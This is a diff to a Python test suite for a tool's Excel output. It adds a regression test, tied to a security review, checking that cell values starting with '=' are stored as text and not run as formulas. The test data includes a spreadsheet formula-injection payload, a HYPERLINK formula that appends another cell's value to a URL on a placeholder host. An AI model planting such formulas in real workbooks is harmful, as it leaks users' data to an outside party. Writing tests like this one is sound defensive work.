@@ -495,6 +495,16 @@ def test_lepton_predict_keeps_an_excel_workbooks_text_cells_as_text(tmp_path, ca
                  "--out", str(tmp_path / "pred.xlsx")]) == 0
     sheet = openpyxl.load_workbook(tmp_path / "pred.xlsx").active
     assert [(c.value, c.data_type) for c in sheet[2]][:2] == [("00000", "s"), (7, "n")]
+    # text that begins with '=' is text in the workbook written, not a formula: a kept
+    # '=HYPERLINK(...)' became a live link there (security review helper-75)
+    new.loc[2, "id"] = '=HYPERLINK("http://example.invalid/?x="&B2,"open")'
+    new.loc[3, "id"] = "=1+1"
+    new.to_csv(tmp_path / "sent.csv", index=False)
+    assert main(["predict", str(saved), str(tmp_path / "sent.csv"), "--keep", "id",
+                 "--out", str(tmp_path / "sent.xlsx")]) == 0
+    sheet = openpyxl.load_workbook(tmp_path / "sent.xlsx").active
+    assert [(c.value, c.data_type) for c in sheet["A"]][3:5] == [
+        ('=HYPERLINK("http://example.invalid/?x="&B2,"open")', "s"), ("=1+1", "s")]
 
 
 def test_a_decimal_comma_file_into_a_tsv_writes_one_decimal_sign(tmp_path, capsys):
